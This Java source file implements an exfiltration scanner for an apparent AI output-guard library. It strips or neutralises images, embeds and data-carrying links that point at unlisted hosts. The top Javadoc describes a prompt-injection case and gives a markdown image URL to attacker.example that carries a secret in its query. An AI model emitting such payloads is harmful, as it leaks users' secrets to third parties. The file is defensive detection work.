package dev.aisecurity.guard.exfil;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Objects;
import java.util.Set;

import dev.aisecurity.guard.Direction;
import dev.aisecurity.guard.Finding;
import dev.aisecurity.guard.GuardText;
import dev.aisecurity.guard.ScanContext;
import dev.aisecurity.guard.Scanner;
import dev.aisecurity.guard.ScannerPolicy;
import dev.aisecurity.guard.text.AsciiBytes;

/**
 * Removes or neutralises links and images in model output that could carry data to a
 * third party. An injected instruction can make a model write
 * {@code ![](https://attacker.example/p?d=<secret>)}: the chat UI fetches the image on
 * its own and the secret is gone without a click.
 * <ul>
 * <li>Images (markdown images, HTML {@code img}, {@code iframe}, {@code embed},
 * {@code object}, {@code video}, {@code audio}, {@code source}, {@code script},
 * {@code link} ...) load by themselves: those pointing at a host outside the image
 * allowlist (empty by default) are removed ({@code IMAGE_REMOVED},
 * {@code EMBED_REMOVED}).</li>
 * <li>Links (markdown links, HTML {@code a}/{@code form}/{@code area}, autolinks, bare
 * URLs) need a click: those to a host outside the link allowlist are neutralised when the
 * URL carries data (a query string, credentials, an encoded-looking path segment, a long
 * or encoded subdomain) or, with {@code neutralizeUnlistedLinks}, always
 * ({@code LINK_NEUTRALISED}). {@code javascript:} and {@code vbscript:} links are always
 * neutralised.</li>
 * </ul>
 * A host is allowed when it equals an allowlist entry or is a subdomain of one. Relative
 * URLs stay (they point at the application itself); {@code data:} images stay (they load
 * nothing). Hand-written single pass: linear in the text.
 */
public final class ExfiltrationScanner implements Scanner {

	/** Scanner id. */
	public static final String ID = "exfiltration";

	/** Finding category. */
	public static final String CATEGORY = "exfiltration";

	/** Reason code: an image to an unlisted host was removed. */
	public static final String IMAGE_REMOVED = "IMAGE_REMOVED";

	/** Reason code: an embedded frame, object, media or script was removed. */
	public static final String EMBED_REMOVED = "EMBED_REMOVED";

	/** Reason code: a link was neutralised. */
	public static final String LINK_NEUTRALISED = "LINK_NEUTRALISED";

	static final String IMAGE_REPLACEMENT = "[image removed]";

	static final String EMBED_REPLACEMENT = "[embedded content removed]";

	static final String LINK_REPLACEMENT = "[link removed]";

	static final String LINK_SUFFIX = " (link removed)";

	private static final int MAX_LINK_TEXT = 4096;

	private static final int MAX_DESTINATION = 8192;

	private static final int MAX_TAG = 4096;

	/**
	 * For each ASCII character: 1 when it may start a markdown link or image or a tag;
	 * for the first letters of http and www, the lower-case letter that must follow; 0
	 * otherwise.
	 */
	private static final char[] TRIGGERS = new char[128];

	static {
		for (char c : "![<".toCharArray()) {
			TRIGGERS[c] = 1;
		}
		TRIGGERS['h'] = 't';
		TRIGGERS['H'] = 't';
		TRIGGERS['w'] = 'w';
		TRIGGERS['W'] = 'w';
	}

	private static final Set<String> EMBED_TAGS = Set.of("iframe", "frame", "embed", "object", "video", "audio",
			"source", "track", "script", "link", "input", "base", "meta", "portal", "applet");

	private static final Set<String> IMAGE_TAGS = Set.of("img", "image", "picture", "svg");

	private static final Set<String> LINK_TAGS = Set.of("a", "area", "form", "button");

	private final List<String> allowedImageHosts;

	private final List<String> allowedLinkHosts;

	private final boolean neutralizeUnlistedLinks;

	/**
	 * Defaults: no image host allowed, links neutralised when they carry data.
	 */
	public ExfiltrationScanner() {
		this(builder());
	}

	private ExfiltrationScanner(Builder builder) {
		this.allowedImageHosts = normalizeHosts(builder.allowedImageHosts);
		this.allowedLinkHosts = normalizeHosts(builder.allowedLinkHosts);
		this.neutralizeUnlistedLinks = builder.neutralizeUnlistedLinks;
	}

	public static Builder builder() {
		return new Builder();
	}

	@Override
	public String id() {
		return ID;
	}

	@Override
	public boolean supports(Direction direction) {
		return direction == Direction.OUTPUT;
	}

	@Override
	public ScannerPolicy defaultPolicy(Direction direction) {
		return ScannerPolicy.sanitize(0.5);
	}

	@Override
	public List<Finding> scan(GuardText text, ScanContext context) {
		return new Pass(text.sanitized(), text.plainAscii()).run();
	}

	private static List<String> normalizeHosts(List<String> hosts) {
		List<String> result = new ArrayList<>(hosts.size());
		for (String host : hosts) {
			String h = host.trim().toLowerCase(Locale.ROOT);
			if (h.startsWith("*.")) {
				h = h.substring(2);
			}
			while (h.endsWith(".")) {
				h = h.substring(0, h.length() - 1);
			}
			if (!h.isEmpty()) {
				result.add(h);
			}
		}
		return List.copyOf(result);
	}

	static boolean hostAllowed(String host, List<String> allowlist) {
		for (String allowed : allowlist) {
			if (host.equals(allowed) || (host.endsWith(allowed) && host.length() > allowed.length()
					&& host.charAt(host.length() - allowed.length() - 1) == '.')) {
				return true;
			}
		}
		return false;
	}

	/** What a URL is, once parsed. */
	enum Kind {

		/** No scheme and no host: points at the application itself. */
		RELATIVE,

		/** A network URL with a host. */
		NETWORK,

		/** javascript:, vbscript: */
		SCRIPT,

		/** data: */
		DATA,

		/** Any other scheme (mailto:, tel:, ...). */
		OTHER

	}

	/**
	 * A parsed URL: only what the decisions need.
	 */
	record Url(Kind kind, String host, boolean carriesData) {

	}

	/**
	 * Parse a URL destination. Never throws.
	 */
	static Url parse(String s, int from, int to) {
		int i = from;
		while (i < to && Character.isWhitespace(s.charAt(i))) {
			i++;
		}
		int colon = -1;
		for (int j = i; j < to; j++) {
			char c = s.charAt(j);
			if (c == ':') {
				colon = j;
				break;
			}
			if (!(Character.isLetterOrDigit(c) || c == '+' || c == '-' || c == '.')) {
				break;
			}
		}
		int authority;
		if (colon > i) {
			String scheme = s.substring(i, colon).toLowerCase(Locale.ROOT);
			switch (scheme) {
				case "http", "https", "ftp", "ws", "wss" -> {
				}
				case "javascript", "vbscript" -> {
					return new Url(Kind.SCRIPT, "", true);
				}
				case "data" -> {
					return new Url(Kind.DATA, "", false);
				}
				default -> {
					return new Url(Kind.OTHER, "", indexOf(s, '?', colon, to) >= 0);
				}
			}
			authority = colon + 1;
			int slashes = 0;
			while (authority < to && (s.charAt(authority) == '/' || s.charAt(authority) == '\\') && slashes < 3) {
				authority++;
				slashes++;
			}
		}
		else if (i + 1 < to && (s.charAt(i) == '/' || s.charAt(i) == '\\')
				&& (s.charAt(i + 1) == '/' || s.charAt(i + 1) == '\\')) {
			authority = i + 2;
		}
		else {
			return new Url(Kind.RELATIVE, "", false);
		}
		int authorityEnd = authority;
		while (authorityEnd < to) {
			char c = s.charAt(authorityEnd);
			if (c == '/' || c == '\\' || c == '?' || c == '#' || Character.isWhitespace(c)) {
				break;
			}
			authorityEnd++;
		}
		boolean data = false;
		int hostStart = authority;
		int at = lastIndexOf(s, '@', authority, authorityEnd);
		if (at >= 0) {
			data = true; // credentials in the URL
			hostStart = at + 1;
		}
		int hostEnd = authorityEnd;
		int portColon = lastIndexOf(s, ':', hostStart, authorityEnd);
		if (portColon >= 0 && lastIndexOf(s, ']', hostStart, authorityEnd) < portColon) {
			hostEnd = portColon;
		}
		String host = s.substring(hostStart, hostEnd).toLowerCase(Locale.ROOT);
		while (host.endsWith(".")) {
			host = host.substring(0, host.length() - 1);
		}
		data |= hostCarriesData(host);
		data |= restCarriesData(s, authorityEnd, to);
		return new Url(Kind.NETWORK, host, data);
	}

	private static boolean hostCarriesData(String host) {
		int labels = 1;
		int labelLength = 0;
		for (int i = 0; i < host.length(); i++) {
			char c = host.charAt(i);
			if (c == '.') {
				labels++;
				labelLength = 0;
			}
			else if (++labelLength >= 24) {
				return true; // long label: data smuggled through DNS
			}
		}
		return labels > 6;
	}

	/**
	 * Whether the path, query or fragment look like they carry data: any query, a
	 * percent-encoded payload, or a path segment that looks encoded rather than written
	 * by a person.
	 */
	private static boolean restCarriesData(String s, int from, int to) {
		int escapes = 0;
		int piece = 0;
		int letters = 0;
		int digits = 0;
		for (int i = from; i < to; i++) {
			char c = s.charAt(i);
			if (Character.isWhitespace(c)) {
				break;
			}
			if (c == '?') {
				// a query string with something in it
				return i + 1 < to && !Character.isWhitespace(s.charAt(i + 1));
			}
			if (c == '#') {
				break;
			}
			if (c == '%') {
				if (++escapes >= 3) {
					return true;
				}
			}
			if (c == '=' || c == ';') {
				return true;
			}
			if (c == '/' || c == '-' || c == '_' || c == '.' || c == '~' || c == '+' || c == ',') {
				if (encodedPiece(piece, letters, digits)) {
					return true;
				}
				piece = 0;
				letters = 0;
				digits = 0;
				continue;
			}
			piece++;
			if (c >= '0' && c <= '9') {
				digits++;
			}
			else if (Character.isLetter(c)) {
				letters++;
			}
		}
		return encodedPiece(piece, letters, digits);
	}

	private static boolean encodedPiece(int length, int letters, int digits) {
		if (length >= 24) {
			return true;
		}
		return length >= 12 && letters >= 3 && digits >= 3;
	}

	private static int indexOf(String s, char c, int from, int to) {
		for (int i = from; i < to; i++) {
			if (s.charAt(i) == c) {
				return i;
			}
		}
		return -1;
	}

	private static int lastIndexOf(String s, char c, int from, int to) {
		for (int i = to - 1; i >= from; i--) {
			if (s.charAt(i) == c) {
				return i;
			}
		}
		return -1;
	}

	/**
	 * Score of a link finding, or 0 when the link may stay.
	 */
	private double linkScore(Url url) {
		return switch (url.kind()) {
			case RELATIVE, DATA -> (url.kind() == Kind.DATA) ? 0.7 : 0;
			case SCRIPT -> 1.0;
			case OTHER -> url.carriesData() ? 0.7 : 0;
			case NETWORK -> {
				if (hostAllowed(url.host(), this.allowedLinkHosts)) {
					yield 0;
				}
				if (url.carriesData()) {
					yield 0.9;
				}
				yield this.neutralizeUnlistedLinks ? 0.6 : 0;
			}
		};
	}

	/**
	 * Score of an image finding, or 0 when the image may stay.
	 */
	private double imageScore(Url url) {
		return switch (url.kind()) {
			case RELATIVE, DATA -> 0;
			case SCRIPT -> 1.0;
			case OTHER -> 0.7;
			case NETWORK -> hostAllowed(url.host(), this.allowedImageHosts) ? 0 : (url.carriesData() ? 1.0 : 0.9);
		};
	}

	/**
	 * One scan over one text.
	 */
	private final class Pass {

		private final String s;

		private final int n;

		/** The characters of {@link #s} as bytes when all are ASCII, else null. */
		private final byte[] ascii;

		private final List<Finding> findings = new ArrayList<>(0);

		// Next occurrence caches: queries only move forward, so total search is linear
		private int nextClose = -2;

		private int nextParen = -2;

		private int nextAngle = -2;

		private int skipFrom = -1;

		private int skipTo = -1;

		Pass(String s, byte[] ascii) {
			this.s = s;
			this.n = s.length();
			this.ascii = ascii;
		}

		List<Finding> run() {
			int i = 0;
			while (i < this.n) {
				if (i == this.skipFrom) {
					i = this.skipTo;
					this.skipFrom = -1;
					continue;
				}
				// most characters start nothing: run to the next one that may (or to
				// the pending skip)
				int stop = (this.skipFrom > i) ? this.skipFrom : this.n;
				i = (this.ascii != null) ? nextStartAscii(i, stop) : nextStart(i, stop);
				if (i == stop) {
					continue;
				}
				char c = this.s.charAt(i);
				int next;
				switch (c) {
					case '!' -> next = (i + 1 < this.n && this.s.charAt(i + 1) == '[') ? markdown(i, i + 1, true) : -1;
					case '[' -> next = markdown(i, i, false);
					case '<' -> next = html(i);
					case 'h', 'H', 'w', 'W' -> next = bareUrl(i);
					default -> next = -1;
				}
				i = (next > i) ? next : i + 1;
			}
			return this.findings;
		}

		/**
		 * The first index from {@code from} (below {@code stop}) whose character
		 * {@link #mayStart may start} something, or {@code stop}.
		 */
		int nextStart(int from, int stop) {
			int i = from;
			while (i < stop && !mayStart(this.s.charAt(i), i)) {
				i++;
			}
			return i;
		}

		/**
		 * {@link #nextStart} over the ASCII bytes, eight at a time: one mask marks the
		 * bytes that start something, a pair of masks the h and w followed by t and w.
		 */
		int nextStartAscii(int from, int stop) {
			byte[] bytes = this.ascii;
			int i = from;
			for (; i + Long.BYTES < this.n && i < stop; i += Long.BYTES) {
				long word = AsciiBytes.word(bytes, i);
				// each byte's successor in the same lane (the byte after the eight last)
				long following = (word >>> Byte.SIZE) | ((long) bytes[i + Long.BYTES] << 56);
				long folded = word | (AsciiBytes.ONES * 0x20);
				long followingFolded = following | (AsciiBytes.ONES * 0x20);
				long starts = AsciiBytes.equalBytes(word, '!') | AsciiBytes.equalBytes(word, '[')
						| AsciiBytes.equalBytes(word, '<')
						| (AsciiBytes.equalBytes(folded, 'h') & AsciiBytes.equalBytes(followingFolded, 't'))
						| (AsciiBytes.equalBytes(folded, 'w') & AsciiBytes.equalBytes(followingFolded, 'w'));
				if (starts != 0) {
					return Math.min(i + Long.numberOfTrailingZeros(starts) / Byte.SIZE, stop);
				}
			}
			return nextStart(Math.min(i, stop), stop);
		}

		/**
		 * Whether the character at {@code i} may start a markdown link or image, a tag or
		 * a bare URL. For h and w, which start many words, the next letter must continue
		 * http or www (either case).
		 */
		private boolean mayStart(char c, int i) {
			if (c >= TRIGGERS.length) {
				return false;
			}
			char trigger = TRIGGERS[c];
			if (trigger <= 1) {
				return trigger == 1;
			}
			return i + 1 < this.n && (this.s.charAt(i + 1) | 0x20) == trigger;
		}

		private int next(char c, int from, int cached) {
			if (cached == -1 || (cached >= from)) {
				return cached;
			}
			return this.s.indexOf(c, from);
		}

		private int nextClose(int from) {
			this.nextClose = next(']', from, this.nextClose);
			return this.nextClose;
		}

		private int nextParen(int from) {
			this.nextParen = next(')', from, this.nextParen);
			return this.nextParen;
		}

		private int nextAngle(int from) {
			this.nextAngle = next('>', from, this.nextAngle);
			return this.nextAngle;
		}

		/**
		 * {@code [text](url)}, {@code ![alt](url)} or a reference definition
		 * {@code [ref]: url}. Returns where to continue, or -1 when this is none of them.
		 */
		private int markdown(int start, int open, boolean image) {
			if (!image && open + 2 < this.n && this.s.charAt(open + 1) == '!' && this.s.charAt(open + 2) == '[') {
				return -1; // a linked image: the image is handled at '!', the link's URL
							// as
							// a bare URL
			}
			int close = nextClose(open + 1);
			if (close < 0 || close - open > MAX_LINK_TEXT || close + 1 >= this.n) {
				return -1;
			}
			char after = this.s.charAt(close + 1);
			if (after == '(') {
				int end = nextParen(close + 2);
				if (end < 0 || end - close > MAX_DESTINATION) {
					return -1;
				}
				// one level of balanced parentheses inside the destination
				if (indexOf(this.s, '(', close + 2, end) >= 0) {
					int further = nextParen(end + 1);
					if (further > 0 && further - close <= MAX_DESTINATION) {
						end = further;
					}
				}
				int destStart = close + 2;
				int destEnd = destinationEnd(destStart, end);
				if (destStart < this.n && this.s.charAt(destStart) == '<') {
					destStart++;
				}
				Url url = parse(this.s, destStart, destEnd);
				if (image) {
					double score = imageScore(url);
					if (score > 0) {
						this.findings
							.add(Finding.span(ID, CATEGORY, IMAGE_REMOVED, score, start, end + 1, IMAGE_REPLACEMENT));
					}
					return end + 1;
				}
				double score = linkScore(url);
				if (score > 0) {
					this.findings.add(Finding.span(ID, CATEGORY, LINK_NEUTRALISED, score, open, open + 1, ""));
					this.findings.add(Finding.span(ID, CATEGORY, LINK_NEUTRALISED, score, close, end + 1, LINK_SUFFIX));
				}
				// the link text is scanned too (it becomes plain text), the destination
				// not again
				this.skipFrom = close;
				this.skipTo = end + 1;
				return open + 1;
			}
			if (after == ':' && !image && atLineStart(open)) {
				// reference definition: it may back an image, so images' rules apply
				int destStart = close + 2;
				while (destStart < this.n && (this.s.charAt(destStart) == ' ' || this.s.charAt(destStart) == '\t')) {
					destStart++;
				}
				int destEnd = destStart;
				while (destEnd < this.n && !Character.isWhitespace(this.s.charAt(destEnd))) {
					destEnd++;
				}
				if (destEnd == destStart) {
					return -1;
				}
				Url url = parse(this.s, destStart, destEnd);
				double score = Math.max(imageScore(url), linkScore(url));
				if (score > 0 && !(url.kind() == Kind.NETWORK && !url.carriesData()
						&& hostAllowed(url.host(), ExfiltrationScanner.this.allowedImageHosts))) {
					this.findings
						.add(Finding.span(ID, CATEGORY, LINK_NEUTRALISED, score, destStart, destEnd, LINK_REPLACEMENT));
				}
				return destEnd;
			}
			return -1;
		}

		private boolean atLineStart(int open) {
			int j = open - 1;
			int spaces = 0;
			while (j >= 0 && this.s.charAt(j) == ' ' && spaces < 4) {
				j--;
				spaces++;
			}
			return spaces <= 3 && (j < 0 || this.s.charAt(j) == '\n' || this.s.charAt(j) == '\r');
		}

		private int destinationEnd(int from, int to) {
			int i = from;
			while (i < to && Character.isWhitespace(this.s.charAt(i))) {
				i++;
			}
			if (i < to && this.s.charAt(i) == '<') {
				int gt = indexOf(this.s, '>', i, to);
				return (gt > 0) ? gt : to;
			}
			while (i < to && !Character.isWhitespace(this.s.charAt(i))) {
				i++;
			}
			return i;
		}

		/**
		 * An HTML tag or an autolink. Returns where to continue, or -1.
		 */
		private int html(int lt) {
			int nameStart = lt + 1;
			int nameEnd = nameStart;
			while (nameEnd < this.n && nameEnd - nameStart < 16 && isAsciiLetterOrDigit(this.s.charAt(nameEnd))) {
				nameEnd++;
			}
			if (nameEnd == nameStart) {
				return -1;
			}
			int gt = nextAngle(nameEnd);
			if (gt < 0 || gt - lt > MAX_TAG) {
				return -1;
			}
			if (nameEnd < this.n && this.s.charAt(nameEnd) == ':') {
				// autolink <scheme:...>
				Url url = parse(this.s, nameStart, gt);
				double score = linkScore(url);
				if (score > 0 && url.kind() != Kind.RELATIVE) {
					this.findings
						.add(Finding.span(ID, CATEGORY, LINK_NEUTRALISED, score, lt, gt + 1, LINK_REPLACEMENT));
					return gt + 1;
				}
				return (url.kind() == Kind.RELATIVE) ? -1 : gt + 1;
			}
			String name = this.s.substring(nameStart, nameEnd).toLowerCase(Locale.ROOT);
			boolean embed = EMBED_TAGS.contains(name);
			boolean imageTag = IMAGE_TAGS.contains(name);
			boolean link = LINK_TAGS.contains(name);
			if (!embed && !imageTag && !link) {
				// unknown tag: judged by its auto-loading attributes; its text is scanned
				// as text either way
				int size = this.findings.size();
				scanAttributes(lt, gt, false, null);
				return (this.findings.size() > size) ? gt + 1 : -1;
			}
			return scanAttributes(lt, gt, true, embed ? EMBED_REMOVED : (imageTag ? IMAGE_REMOVED : LINK_NEUTRALISED));
		}

		/**
		 * Judge every URL in a tag's attributes. Tags that load by themselves are
		 * removed; links lose their opening tag; other tags are judged by their
		 * auto-loading attributes (src, background, poster...) only.
		 */
		private int scanAttributes(int lt, int gt, boolean known, String code) {
			double worst = 0;
			boolean loads = code != null && !code.equals(LINK_NEUTRALISED);
			int i = lt + 1;
			while (i < gt) {
				char c = this.s.charAt(i);
				if (c == '=' && i + 1 < gt) {
					int valueStart = i + 1;
					while (valueStart < gt && Character.isWhitespace(this.s.charAt(valueStart))) {
						valueStart++;
					}
					char quote = (valueStart < gt) ? this.s.charAt(valueStart) : ' ';
					int valueEnd;
					if (quote == '"' || quote == '\'') {
						valueStart++;
						valueEnd = indexOf(this.s, quote, valueStart, gt);
						if (valueEnd < 0) {
							valueEnd = gt;
						}
					}
					else {
						valueEnd = valueStart;
						while (valueEnd < gt && !Character.isWhitespace(this.s.charAt(valueEnd))) {
							valueEnd++;
						}
					}
					String attribute = attributeName(lt, i);
					worst = Math.max(worst, judgeAttribute(attribute, valueStart, valueEnd, known, loads));
					i = valueEnd + 1;
					continue;
				}
				i++;
			}
			if (worst <= 0) {
				return gt + 1;
			}
			if (!known || loads) {
				String replacement = (code != null && code.equals(EMBED_REMOVED)) ? EMBED_REPLACEMENT
						: IMAGE_REPLACEMENT;
				this.findings.add(Finding.span(ID, CATEGORY, (code != null) ? code : IMAGE_REMOVED, worst, lt, gt + 1,
						replacement));
			}
			else {
				this.findings.add(Finding.span(ID, CATEGORY, LINK_NEUTRALISED, worst, lt, gt + 1, ""));
			}
			return gt + 1;
		}

		private double judgeAttribute(String attribute, int from, int to, boolean known, boolean loads) {
			boolean urlAttribute = switch (attribute) {
				case "src", "srcset", "data", "poster", "background", "href", "action", "formaction", "content",
						"xlink:href", "codebase", "archive", "lowsrc", "dynsrc", "ping" ->
					true;
				default -> false;
			};
			if (!urlAttribute) {
				return 0;
			}
			if (!known) {
				// unknown tags: only attributes that load by themselves
				if (!(attribute.equals("src") || attribute.equals("background") || attribute.equals("poster")
						|| attribute.equals("srcset"))) {
					return 0;
				}
				return maxOverUrls(from, to, true);
			}
			return maxOverUrls(from, to, loads || !(attribute.equals("href") || attribute.equals("action")
					|| attribute.equals("formaction") || attribute.equals("ping")));
		}

		/**
		 * An attribute value may hold several URLs (srcset): judge each.
		 */
		private double maxOverUrls(int from, int to, boolean asImage) {
			double worst = 0;
			int i = from;
			while (i < to) {
				while (i < to && (Character.isWhitespace(this.s.charAt(i)) || this.s.charAt(i) == ',')) {
					i++;
				}
				int end = i;
				while (end < to && !Character.isWhitespace(this.s.charAt(end)) && this.s.charAt(end) != ',') {
					end++;
				}
				if (end > i) {
					Url url = parse(this.s, i, end);
					worst = Math.max(worst, asImage ? imageScore(url) : linkScore(url));
				}
				i = end + 1;
			}
			return worst;
		}

		private String attributeName(int lt, int equals) {
			int end = equals;
			while (end > lt && Character.isWhitespace(this.s.charAt(end - 1))) {
				end--;
			}
			int start = end;
			while (start > lt && (isAsciiLetterOrDigit(this.s.charAt(start - 1)) || this.s.charAt(start - 1) == '-'
					|| this.s.charAt(start - 1) == ':')) {
				start--;
			}
			if (end - start > 32) {
				return "";
			}
			return this.s.substring(start, end).toLowerCase(Locale.ROOT);
		}

		/**
		 * A bare {@code http://} or {@code https://} URL. Returns where to continue, or
		 * -1.
		 */
		private int bareUrl(int start) {
			if (start > 0 && isAsciiLetterOrDigit(this.s.charAt(start - 1))) {
				return -1;
			}
			int schemeEnd;
			boolean www = false;
			if (this.s.regionMatches(true, start, "https://", 0, 8)) {
				schemeEnd = start + 8;
			}
			else if (this.s.regionMatches(true, start, "http://", 0, 7)) {
				schemeEnd = start + 7;
			}
			else if (this.s.regionMatches(true, start, "www.", 0, 4)) {
				schemeEnd = start + 4;
				www = true;
			}
			else {
				return -1;
			}
			int end = schemeEnd;
			while (end < this.n) {
				char c = this.s.charAt(end);
				if (Character.isWhitespace(c) || c == '<' || c == '>' || c == '"' || c == '\'' || c == '`'
						|| c < 0x20) {
					break;
				}
				end++;
			}
			// trailing punctuation belongs to the sentence, not the URL
			while (end > schemeEnd && ".,:;!?*_~)]}".indexOf(this.s.charAt(end - 1)) >= 0) {
				end--;
			}
			if (end == schemeEnd) {
				return schemeEnd;
			}
			Url url = www ? parse("//" + this.s.substring(start, end), 0, end - start + 2) : parse(this.s, start, end);
			double score = linkScore(url);
			if (score > 0) {
				this.findings.add(Finding.span(ID, CATEGORY, LINK_NEUTRALISED, score, start, end, LINK_REPLACEMENT));
			}
			return end;
		}

		private static boolean isAsciiLetterOrDigit(char c) {
			return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9');
		}

	}

	/**
	 * Builds an {@link ExfiltrationScanner}.
	 */
	public static final class Builder {

		private List<String> allowedImageHosts = List.of();

		private List<String> allowedLinkHosts = List.of();

		private boolean neutralizeUnlistedLinks;

		private Builder() {
		}

		/**
		 * Hosts images may load from (and their subdomains); none by default.
		 */
		public Builder allowedImageHosts(List<String> hosts) {
			this.allowedImageHosts = List.copyOf(Objects.requireNonNull(hosts));
			return this;
		}

		/**
		 * Hosts links may point at with any URL (and their subdomains).
		 */
		public Builder allowedLinkHosts(List<String> hosts) {
			this.allowedLinkHosts = List.copyOf(Objects.requireNonNull(hosts));
			return this;
		}

		/**
		 * Neutralise every link to an unlisted host, not only those carrying data.
		 */
		public Builder neutralizeUnlistedLinks(boolean neutralize) {
			this.neutralizeUnlistedLinks = neutralize;
			return this;
		}

		public ExfiltrationScanner build() {
			return new ExfiltrationScanner(this);
		}

	}

}
